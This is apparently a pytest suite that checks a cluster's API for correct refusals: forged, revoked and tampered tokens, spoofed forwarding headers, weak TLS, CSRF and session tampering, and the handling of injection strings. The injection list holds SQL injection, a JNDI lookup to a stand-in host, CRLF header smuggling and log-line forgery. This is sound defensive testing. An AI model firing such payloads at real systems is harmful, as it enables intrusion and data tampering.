"""Attacks upon the API of real nodes: with tokens that are not good, with a stolen agent's, with a viewer's; with
headers that only nodes may send; with a browser's session from
somebody else's page; with names that are no names. Each has its control: the same request, rightly made, is done."""

import json
import re
import ssl
import time
from collections.abc import Iterator
from pathlib import Path
from uuid import uuid4

import pytest
import trustme
from localcluster.api import Answer
from localcluster.cluster import Cluster
from localcluster.process import wait_until

from provider.trust import pki
from shared.messages import up_key
from shared.tls import client_context
from shared.tokens import new_token, parse_token
from tests.support.amqp import Rogue, enrolled, envelope, publish
from tests.support.api import Client, client
from tests.support.newcomers import newcomer
from tests.support.nodes import primary_of, standbys_of

NODES = ("primary", "standby")


@pytest.fixture(scope="module")
def agent(cluster: Cluster) -> Iterator[Rogue]:
    with enrolled(cluster) as found:
        yield found


@pytest.fixture(params=NODES)
def node(request: pytest.FixtureRequest, cluster: Cluster) -> Client:
    return client(cluster, primary_of(cluster) if request.param == "primary" else standbys_of(cluster)[0])


def caught_up(cluster: Cluster) -> None:
    """Every node has what any has: else a refusal could only mean that the news has not come yet."""
    newest = max(client(cluster, name).read("/cluster")["revision"] for name in cluster.providers)
    for name in cluster.providers:
        client(cluster, name).read("/cluster", Bellwether_Min_Revision=str(newest))


def put(node: Client, token: str | None, **headers: str) -> Answer:
    return node.holding(token).put("/settings/user.attacked", {"value": uuid4().hex}, **headers)


# ── tokens ───────────────────────────────────────────────────────────────────────────────────────────────────────────


def wait_until_over(primary: Client, token: str) -> None:
    """Until the time of a token is over."""
    expires_at = primary.read(f"/tokens/{parse_token(token).id}")["spec"]["expires_at"]
    wait_until(lambda: time.time() * 1000 > expires_at, timeout_s=10, what="the end of a token of one second")


def test_tokens_that_are_not_good(cluster: Cluster, primary: Client, node: Client) -> None:
    good = primary.write("POST", "/tokens", {"role": "operator"}).json["token"]
    revoked = primary.write("POST", "/tokens", {"role": "operator"}).json["token"]
    primary.write("DELETE", f"/tokens/{parse_token(revoked).id}")
    expired = primary.write("POST", "/tokens", {"role": "operator", "ttl_s": 1}).json["token"]
    id_, secret = parse_token(good).id, parse_token(good).secret
    wait_until_over(primary, expired)
    caught_up(cluster)
    assert put(node, good).status in (200, 201)
    for bad in (
        revoked,
        expired,
        new_token("admin").text(),
        good.replace(secret, "0" * 64),
        good.replace(secret, secret.upper()) if secret.upper() != secret else "x",
        good.replace(secret, secret[:-1]),
        good.replace(secret, secret + "0"),
        good.replace("bw.operator.", "bw.admin."),
        good.replace("bw.operator.", "bw.node."),
        good.replace(id_, id_.upper()) if id_.upper() != id_ else "x",
        good.replace(id_, "../" + id_),
        good + ".x",
        f"bw.node.p1.{secret}",
        f"bw.agent.db1.{secret}",
        "bw.session." + "e30.x",
    ):
        assert (put(node, bad).status, put(node, bad).code) == (401, "unauthenticated"), bad
    assert put(node, None).status == 401


def test_a_role_or_scope_that_does_not_reach(cluster: Cluster, primary: Client, node: Client) -> None:
    viewer = primary.write("POST", "/tokens", {"role": "viewer"}).json["token"]
    caught_up(cluster)
    assert node.holding(viewer).get("/cluster").status == 200
    assert (put(node, viewer).status, put(node, viewer).code) == (403, "forbidden")
    for method, path in (
        ("POST", "/tokens"), ("GET", "/tokens"), ("GET", "/snapshot"), ("GET", "/history"), ("GET", "/audit"),
        ("DELETE", "/nodes/p2"), ("DELETE", "/agents/db1"), ("POST", "/failover"), ("PUT", "/users/mine"),
        ("GET", "/users"),
        ("POST", "/agents/advise"), ("PUT", "/instances/db1/databases/x"), ("DELETE", "/instances/db1/accounts/x"),
    ):  # fmt: skip
        answer = node.holding(viewer).request(method, path, {} if method in ("POST", "PUT") else None)
        assert (answer.status, answer.code) == (403, "forbidden"), (method, path, answer)


def test_a_stolen_agents_token(cluster: Cluster, node: Client, agent: Rogue) -> None:
    """Its own advice, and nothing else. (`test_access` in tests/cluster tries every route.)"""
    caught_up(cluster)
    thief = node.holding(agent.api_token)
    assert thief.get(f"/agents/{agent.id}/advice").status == 200
    for path in (
        *("/agents/db1/advice", f"/agents/{agent.id}", "/agents", "/cluster", "/events?follow=false", "/settings"),
        *(f"/agents/{agent.id}%2f..%2fdb1/advice", f"/agents/{agent.id}/../db1/advice", "/instances/db1/accounts"),
    ):
        assert thief.get(path).status in (403, 404), path
    assert put(node, agent.api_token).code == "forbidden"


def test_one_time_tokens(cluster: Cluster, primary: Client, node: Client) -> None:
    def fresh(role: str, **more: int) -> str:
        return str(primary.write("POST", "/tokens", {"role": role, **more}).json["token"])

    def enrol(token: str | None) -> Answer:
        name = f"late{uuid4().hex[:8]}"
        body = newcomer(name).body(instances=[{"id": name, "engine": "mariadb", "port": 1}])
        answer = node.holding(token).post("/enroll", body)
        if answer.status == 201:
            primary.write("DELETE", f"/agents/{name}")
        return answer

    used, expired, revoked, good = fresh("agent"), fresh("agent", ttl_s=1), fresh("agent"), fresh("agent")
    primary.write("DELETE", f"/tokens/{parse_token(revoked).id}")
    elsewhere = parse_token(fresh("agent"))
    wait_until_over(primary, expired)
    caught_up(cluster)
    assert enrol(used).status == 201, "the control"
    caught_up(cluster)
    for token in (
        used,
        expired,
        revoked,
        fresh("node"),
        fresh("viewer"),
        primary.token,
        new_token("agent", "f" * 64).text(),  # another cluster's
        good.replace(parse_token(good).secret, parse_token(used).secret),
        good.replace("bw.agent.", "bw.node."),
        f"bw.agent.{elsewhere.id}.{'0' * 64}.{elsewhere.fingerprint}",
        None,
    ):
        answer = enrol(token)
        assert answer.status in (401, 403), (token, answer)
    assert enrol(good).status == 201, "none of this used it up"
    assert put(node, fresh("agent")).status in (401, 403), "a one-time token opens nothing else"


# ── what only nodes may say ──────────────────────────────────────────────────────────────────────────────────────────

FORGED = {
    "X-Forwarded-For": "203.0.113.9",
    "X-Real-IP": "203.0.113.9",
    "Forwarded": "for=203.0.113.9",
    "X-Forwarded-Proto": "http",
    "X-Forwarded-Host": "evil.example",
    "Bellwether-Forwarded": "p2",
    "Bellwether-Client": "203.0.113.9",
    "Bellwether-Principal": "token:admin",
    "Bellwether-Role": "admin",
    "Bellwether-Node": "p1",
    "bellwether.principal": "admin",
    "Bellwether-Peer": "p1",
    "X-SSL-Client-CN": "p1",
    "X-Client-Cert": "p1",
    "X-HTTP-Method-Override": "GET",
}


@pytest.mark.parametrize("name", FORGED)
def test_a_header_makes_nobody_somebody(cluster: Cluster, primary: Client, node: Client, name: str) -> None:
    headers = {name.replace("-", "_"): FORGED[name]}
    assert put(node, None, **headers).status == 401
    viewer = primary.write("POST", "/tokens", {"role": "viewer"}).json["token"]
    caught_up(cluster)
    assert put(node, viewer, **headers).status == 403
    assert put(node, node.token, **headers).status in (200, 201), "it changes nothing for who is let in, either"
    caught_up(cluster)
    found = primary.read("/audit?limit=20")["items"]
    assert found
    assert "203.0.113.9" not in json.dumps(found), "an address that the client made up"


def test_a_standby_does_not_believe_that_somebody_was_let_in_elsewhere(cluster: Cluster, standby: Client) -> None:
    """As a node that forwards would ask, but without its certificate: with nothing, with the node's own token."""
    stolen = (cluster.providers[primary_of(cluster)].files.directory / "node.token").read_text().strip()
    for token in (None, stolen, "bw.node.p1." + "0" * 64):
        answer = put(standby, token, Bellwether_Forwarded="p1", Bellwether_Client="127.0.0.1")
        assert answer.status in (401, 403), (token, answer)
        # Without its certificate a node's token stands for nothing but this node's own certificate to be renewed.
        assert standby.holding(token).get("/cluster", Bellwether_Forwarded="p1").status in (401, 403)
    with_certificate = as_node(cluster, primary_of(cluster), standby)
    assert with_certificate("GET", "/api/v1/cluster", stolen) == 200, "the control: token and certificate together"
    assert with_certificate("GET", "/api/v1/cluster", None) == 401, "the certificate alone"


def as_node(cluster: Cluster, name: str, to: Client):  # type: ignore[no-untyped-def]
    """Asks with the certificate of that node."""
    import http.client
    from urllib.parse import urlsplit

    directory, where = cluster.providers[name].files.directory, urlsplit(to.url)

    def ask(method: str, path: str, token: str | None) -> int:
        tls = client_context(cluster.layout.ca)
        tls.load_cert_chain(directory / "node.pem", directory / "node.key")
        connection = http.client.HTTPSConnection(where.hostname or "", where.port, timeout=10, context=tls)
        try:
            connection.request(method, path, headers={"Authorization": f"Bearer {token}"} if token else {})
            return connection.getresponse().status
        finally:
            connection.close()

    return ask


# ── TLS ──────────────────────────────────────────────────────────────────────────────────────────────────────────────


def handshake(tls: ssl.SSLContext, port: int, *, http: bool = True) -> str | None:
    """The version agreed upon, once a byte was answered; None where it was refused."""
    import socket

    try:
        with (
            socket.create_connection(("127.0.0.1", port), timeout=10) as plain,
            tls.wrap_socket(plain, server_hostname="127.0.0.1") as connection,
        ):
            connection.sendall(
                b"GET /api/v1/health/live HTTP/1.1\r\nHost: x\r\n\r\n" if http else b"AMQP\x00\x00\x09\x01"
            )
            return connection.version() if connection.recv(1) else None
    except OSError:
        return None


def ports(cluster: Cluster) -> dict[str, int]:
    there = cluster.ports
    return {"api": there["p1"], "broker": there["broker"], "management": there["broker-management"]}


@pytest.mark.parametrize("what", ["api", "broker", "management"])
@pytest.mark.filterwarnings("ignore:ssl.TLSVersion")
def test_old_versions_of_tls_and_none_at_all(cluster: Cluster, what: str) -> None:
    import socket

    port = ports(cluster)[what]
    for version, allowed in (
        (ssl.TLSVersion.TLSv1, False),
        (ssl.TLSVersion.TLSv1_1, False),
        (ssl.TLSVersion.TLSv1_2, True),
        (ssl.TLSVersion.TLSv1_3, True),
    ):
        tls = client_context(cluster.layout.ca)
        tls.set_ciphers("ALL:@SECLEVEL=0")
        tls.minimum_version = tls.maximum_version = version
        agreed = handshake(tls, port, http=what != "broker")
        assert (agreed is not None) == allowed, (what, version, agreed)
    weak = client_context(cluster.layout.ca)
    weak.maximum_version = ssl.TLSVersion.TLSv1_2
    weak.set_ciphers("AES128-SHA:AES256-SHA:NULL-SHA:@SECLEVEL=0")
    assert handshake(weak, port, http=what != "broker") is None, "no forward secrecy, or nothing at all"
    for said in (b"GET /api/v1/health/live HTTP/1.1\r\nHost: x\r\n\r\n", b"AMQP\x00\x00\x09\x01"):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as plain:
            plain.sendall(said)
            try:
                answer = plain.recv(1000)
            except ConnectionError:
                answer = b""
        assert not answer.startswith((b"HTTP", b"AMQP", b"\x01")), answer


@pytest.mark.parametrize("what", ["api", "broker", "management"])
def test_a_server_of_another_authority_is_not_believed(cluster: Cluster, tmp_path: Path, what: str) -> None:
    trustme.CA().cert_pem.write_to_path(tmp_path / "other.pem")
    port, http = ports(cluster)[what], what != "broker"
    assert handshake(client_context(tmp_path / "other.pem"), port, http=http) is None
    assert handshake(client_context(cluster.layout.ca), port, http=http) is not None, "the control"


def test_a_certificate_of_another_authority_is_not_believed(cluster: Cluster, tmp_path: Path, node: Client) -> None:
    """It may be called like a node."""
    pem, key = pki.new_ca("Bellwether")
    own = pki.new_key()
    for name, content in (
        ("c.pem", pki.sign(pki.new_request(own, "p1"), "p1", ("127.0.0.1",), pem, key)),
        ("k.pem", own),
    ):
        (tmp_path / name).write_text(content)
    tls = client_context(cluster.layout.ca)
    tls.load_cert_chain(tmp_path / "c.pem", tmp_path / "k.pem")
    port = int(node.url.rpartition(":")[2])
    assert handshake(tls, port) is None
    assert handshake(client_context(cluster.layout.ca), port) is not None


# ── sessions ─────────────────────────────────────────────────────────────────────────────────────────────────────────

PASSWORD = "correct horse battery staple"


def new_user(primary: Client, role: str = "operator") -> str:
    name = f"ann{uuid4().hex[:6]}"
    primary.write("PUT", f"/users/{name}", {"role": role, "password": PASSWORD})
    return name


def login(node: Client, name: str, password: str = PASSWORD) -> Answer:
    return node.holding(None).post("/login", {"name": name, "password": password})


def test_a_page_of_somebody_else_cannot_use_a_browsers_session(cluster: Cluster, primary: Client, node: Client) -> None:
    name = new_user(primary)
    caught_up(cluster)
    answer = login(node, name)
    cookie = answer.headers["set-cookie"]
    for word in ("Secure", "HttpOnly", "SameSite=Strict", "Path=/", "__Host-"):
        assert word.lower() in cookie.lower(), cookie
    sent = cookie.partition(";")[0]
    other = login(node, name).json["csrf"]
    assert node.holding(None).get("/cluster", Cookie=sent).status == 200
    assert put(node, None, Cookie=sent, Bellwether_Csrf=answer.json["csrf"]).status in (200, 201), "the control"
    for headers in (
        {},
        {"Bellwether_Csrf": ""},
        {"Bellwether_Csrf": "x"},
        {"Bellwether_Csrf": other},
        {"Origin": "https://evil.example"},
        {"Bellwether_Csrf": "\u00e9"},
    ):
        refused = put(node, None, Cookie=sent, **headers)
        assert refused.status == 403, (headers, refused)
    assert put(node, None, Cookie=sent.replace("bw.session.", "bw.admin.")).status in (401, 403)


def test_a_form_of_somebody_else_cannot_log_in(primary: Client) -> None:
    name = new_user(primary)
    body = json.dumps({"name": name, "password": PASSWORD}).encode()
    for kind in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        assert primary.holding(None).request("POST", "/login", body, {"Content-Type": kind}).status == 422
    assert primary.holding(None).request("POST", "/login", body, {"Content-Type": "application/json"}).status == 200


@pytest.mark.parametrize("end", ["logout", "password", "role", "deletion", "all sessions"])
def test_a_session_that_is_over(cluster: Cluster, primary: Client, end: str) -> None:
    name = new_user(primary)
    caught_up(cluster)
    session, kept = login(primary, name).json["token"], None
    assert put(primary, session).status in (200, 201)
    match end:
        case "logout":
            kept = login(primary, name).json["token"]
            primary.holding(session).write("DELETE", "/session")
        case "password":
            primary.write("PUT", f"/users/{name}/password", {"password": PASSWORD + "!"})
        case "role":
            primary.write("PUT", f"/users/{name}", {"role": "viewer"})
        case "deletion":
            primary.write("DELETE", f"/users/{name}")
            primary.write("PUT", f"/users/{name}", {"role": "operator", "password": PASSWORD})
        case _:
            primary.write("DELETE", f"/users/{name}/sessions")
    caught_up(cluster)
    for one in (client(cluster, name) for name in cluster.providers):
        assert one.holding(session).get("/cluster").status == 401
        assert put(one, session).status == 401
        if kept is not None:
            assert one.holding(kept).get("/cluster").status == 200, "another session of the same user"


def test_a_session_that_was_altered(cluster: Cluster, primary: Client) -> None:
    import base64

    viewer, admin = new_user(primary, "viewer"), new_user(primary, "admin")
    caught_up(cluster)
    token, theirs = login(primary, viewer).json["token"], login(primary, admin).json["token"]
    payload, signature = token.removeprefix("bw.session.").split(".")
    raw = json.loads(base64.urlsafe_b64decode(payload + "==="))

    def made(content: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(content).encode()).decode().rstrip("=")

    for altered in (
        made([raw[0], admin, *raw[2:]]),
        made([*raw[:3], raw[3] + 10**9]),
        made([*raw[:2], 1, raw[3]]),
        made({}),
        theirs.removeprefix("bw.session.").split(".")[0],
        "",
    ):
        assert primary.holding(f"bw.session.{altered}.{signature}").get("/cluster").status == 401
    assert primary.holding(f"bw.session.{payload}.").get("/cluster").status == 401
    assert primary.holding(f"bw.session.{payload}.{signature}").get("/cluster").status == 200


def test_guessing_is_slowed_and_tells_nothing(primary: Client) -> None:
    name = new_user(primary)
    known, unknown = login(primary, name, "wrong"), login(primary, "nobody-of-that-name", "wrong")
    assert known.status == unknown.status == 401
    assert known.json == unknown.json
    slowed = [said for said in (login(primary, name, "wrong") for _ in range(30)) if said.code == "too_many_requests"]
    assert len(slowed) > 15, "now and then one is let through"
    assert all("retry-after" in said.headers for said in slowed)


# ── names that are no names ──────────────────────────────────────────────────────────────────────────────────────────

INJECTIONS = [
    "' OR 1=1 --", "x'; DROP TABLE documents; --", "${jndi:ldap://evil}", "{{7*7}}", "%s%s%n", "a\r\nSet-Cookie: x=1",
    "a\n2026-01-01T00:00:00.000Z INFO  promoted epoch=99", "a\x1b[2Jb", "\u202egpj.exe", "<script>alert(1)</script>",
    "a\x85b", "a\u2028b", "{exception}{message}", "\x00",
]  # fmt: skip


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
def test_what_is_said_stays_what_was_said(cluster: Cluster, primary: Client, agent: Rogue, text: str) -> None:
    """Kept and shown as it is, or refused; no line of a log that we did not write, no header of an answer."""
    from urllib.parse import quote

    sizes = {name: len(provider.log.read_bytes()) for name, provider in cluster.providers.items()}
    primary.write("PUT", "/settings/user.said", {"value": {text: text}})
    assert primary.read("/settings/user.said")["spec"]["value"] == {text: text}
    for path in (
        f"/instances/db1/databases/{quote(text, safe='')}",
        f"/users/{quote(text, safe='')}",
        f"/settings/user.{quote(text, safe='')}",
        f"/settings?prefix={quote(text, safe='')}",
        f"/audit?principal={quote(text, safe='')}&action={quote(text, safe='')}",
        f"/agents?after={quote(text, safe='')}",
    ):
        assert primary.get(path).status in (200, 404, 422)
        primary.put(path.partition("?")[0], {"role": "viewer", "password": PASSWORD})
    primary.holding(None).post("/login", {"name": text[:64], "password": text})
    agent.say("pulse", {"version": text, "session": text, "epoch": 0, "revision": 0, "endpoint": text})
    agent.say("report", {"revision": 0, "instances": []}, sender=text)
    publish(agent.to, "agents.up", up_key("pulse", agent.id), envelope(text, {}, sender=agent.id), user=agent.id)
    primary.write("PUT", "/settings/user.after", {"value": 1})
    line = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z [A-Z]+ +\S")
    for name, provider in cluster.providers.items():
        for said in provider.log.read_bytes()[sizes[name] :].decode().split("\n"):
            assert not said or line.match(said), said
            assert not said.startswith("2026-01-01"), said
            assert said.isprintable(), repr(said)
